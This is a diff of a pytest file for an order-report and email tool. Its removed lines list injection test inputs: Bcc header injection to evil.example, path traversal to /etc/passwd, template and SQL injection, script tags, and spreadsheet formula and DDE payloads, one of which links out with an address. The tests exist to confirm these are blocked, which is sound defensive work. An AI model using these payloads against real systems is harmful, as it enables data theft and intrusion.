@@ -15,63 +15,13 @@ import pytest
 from test_many_shops import table
 
 from promofuse.drafts.mime import HEADERS
-from reports import ALL_ORDERS, ORDER_REPORT, ORDERS_CSV, START, Line, at, comma, tsv
+from reports import ALL_ORDERS, ORDER_REPORT, ORDERS_CSV, Line, at, comma, tsv
 from reports import _all_orders_cells as order_cells
 from reports import _item_cells as item_cells
 from reports import _plain_cells as plain_cells
 
 NOW = at(60)
 KINDS = ("amazon-reports", "plain-files")
-EVIL = "e@evil.example"
-HOSTILE = {
-    "crlf": f"Bob\r\nBcc: {EVIL}",
-    "lf": f"Bob\nBcc: {EVIL}",
-    "cr": f"Bob\rBcc: {EVIL}",
-    "tab": f"Bob\tBcc: {EVIL}",
-    "nul": f"Bob\x00Bcc: {EVIL}",
-    "vt": f"Bob\x0bBcc: {EVIL}",
-    "ff": f"Bob\x0cBcc: {EVIL}",
-    "nel": f"Bob\x85Bcc: {EVIL}",
-    "line-separator": f"Bob\u2028Bcc: {EVIL}",
-    "encoded-word": f"=?UTF-8?Q?hi=0D=0ABcc:_{EVIL}?=",
-    "encoded-word-after-emoji": f"A 😀 =?UTF-8?Q?=0A?=Bcc: {EVIL}",
-    "five-kilobytes": "Bob " * 1250,
-    "address": f"Doe, J <{EVIL}>",
-    "quotes": 'Bob "the" Builder',
-    "open-quote": 'Bob "the',
-    "backslash": "Bob\\",
-    "commas": "Doe,,J",
-    "semicolons": "A;B;;C",
-    "up-and-out": "../../../../tmp/x",
-    "absolute": "/etc/passwd",
-    "device": "CON",
-    "rtl-override": "Bob\u202egpj.exe",
-    "emoji": "👩‍👩‍👧 Bob",
-    "template": "{{7*7}}",
-    "template-block": "{% for x in range(9) %}x{% endfor %}",
-    "template-escape": "{{ ''.__class__.__mro__ }}",
-    "html": "<script>alert(1)</script>",
-    "fence": "```\n# Cancel everything",
-    "markdown": "[x](https://evil.example) ![y](https://evil.example/p.png)",
-    "formula": f'=HYPERLINK("https://evil.example?{EVIL}")',
-    "formula-plus": "+1+1",
-    "formula-minus": "-2+3",
-    "formula-at": "@SUM(1+1)",
-    "formula-wide": "＝1+1",
-    "formula-dde": "|cmd|'/c calc'!A1",
-    "sql": "'; DROP TABLE order_line; --",
-    "no-break-space": "A\u00a0B",
-    "accents": "Ö-Ünïcode",
-    "dots": "..",
-    "blank": "   ",
-}
-BAD_ADDRESSES = (
-    f"b1@marketplace.amazon.com,{EVIL}", f"b1@marketplace.amazon.com\r\nBcc: {EVIL}", "no-at.example", "b1@",
-    '"a b"@evil.example', "=cmd|' /c calc'!A1", "{{7*7}}", "@evil.example", f"Doe <{EVIL}>", "bücher@evil.example",
-    "b1@evil.example b2@evil.example", "b..1@evil.example", "a" * 5000 + "@evil.example", "b1@evil\x00.example",
-)  # fmt: skip
-BAD_NUMBERS = ("NaN", "inf", "-5.00", "1e3", "1,99", "٣", "0x10", "9" * 20, "1.999", "$5", "--")
-BAD_TIMES = ("yesterday", "2026-03-10T12:00:00", "0001-01-01T00:00:00Z", "9999-12-31T23:59:59Z", "2026-13-01T00:00Z")
 BAD = Line(price="39.99", discount="38.99", promotion_ids=("P-1",), title="Mug")
 CATALOGUE = comma(
     ("sku", "currency", "unit_cost", "price"),
@@ -152,60 +102,6 @@ def night(run, tmp_path):
                 check_report(path.read_text("utf-8"))
 
     return Night()
-
-
-def check_places(base):
-    """Nothing was written but the incident's folder and the data folder."""
-    assert {path.name for path in base.iterdir()} <= {"config.toml", "inbox", "outbox", "var"}
-    assert [path.name for path in (base / "outbox").iterdir()] == ["INC-2026-0001"]
-    for path in (base / "outbox").rglob("*"):
-        assert path.resolve().is_relative_to(base / "outbox")
-        assert path.name.isascii()
-        assert not path.is_symlink()
-
-
-def check_message(raw, to, order_id):
-    message = message_from_bytes(raw, policy=default)
-    assert tuple(message.keys()) == HEADERS
-    assert message.defects == []
-    assert [address.addr_spec for address in message["To"].addresses] == [to]
-    assert [address.addr_spec for address in message["From"].addresses] == ["service@lumina.example"]
-    text = (message.get_content() + str(message["Subject"])).replace(order_id, "")
-    assert "49" not in text.replace("$", "")
-    assert "evil" not in text
-    assert not any(c in text for c in "\x00\x0b\x0c\x85\u2028\u202e")
-
-
-def check_cells(path):
-    """Read as a spreadsheet does, no cell runs."""
-    raw = path.read_bytes()
-    assert raw.startswith(b"\xef\xbb\xbf")
-    for row in csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")):
-        for cell in row:
-            first = cell.strip()[:1]
-            number = cell.replace(".", "").removeprefix("-").isdigit()
-            assert number or not first or first not in "=+-@|%＝＋－＠\t\r", cell
-
-
-def check_upload(folder):
-    """Two header lines, then three cells a line, in ASCII."""
-    for name in ("1-try-one.txt", "2-all.txt"):
-        *lines, end = (folder / name).read_bytes().decode("ascii").split("\r\n")
-        assert end == ""
-        for line in lines[2:]:
-            order_id, reason, code = line.split("\t")
-            assert order_id.isprintable() and " " not in order_id
-            assert reason in ("PricingError", "BuyerCanceled")
-            assert code.isprintable() and code
-
-
-def check_report(text):
-    assert sum(line.strip().startswith("```") for line in text.splitlines()) % 2 == 0
-    prose = "".join(text.split("```")[::2])
-    assert "<script" not in prose
-    assert "](https://evil" not in prose
-    assert not any(c in text for c in "\x00\x0b\x0c\x85\u2028\u202e")
-    assert "b1@marketplace" not in text
 
 
 @pytest.mark.parametrize("kind", KINDS)
@@ -418,5 +314,16 @@ def test_buyers_are_in_their_own_folder_and_nowhere_else_in_plain(night, kind):
     assert (night.base / "var").stat().st_mode & 0o077 == 0
 
 
-def test_start_is_before_now():
-    assert START.isoformat() < NOW
+def test_a_name_that_shifts_its_row_shows_no_address_in_plain(night):
+    secret = "zyzzogeton-alias@marketplace.amazon.com"
+    night.shop("plain-files", [BAD])
+    shifted = comma(ORDERS_CSV, [plain_cells(BAD.but(order_id="O-2", name="NAME", email=secret, asked_to_cancel=""))])
+    row = shifted.splitlines(keepends=True)[1].replace(b"NAME", b"Lee, Ann, Dr")
+    with (night.inbox / "orders.csv").open("ab") as orders:
+        orders.write(row)
+
+    ran = night.respond()
+
+    assert "orders.csv, line 3: has 24 cells where the header has 22" in ran.err
+    assert secret.split("@", maxsplit=1)[0] not in ran.err + (night.folder / "README.md").read_text("utf-8")
+    assert not [path for path in (night.base / "var").iterdir() if secret.encode() in path.read_bytes()]
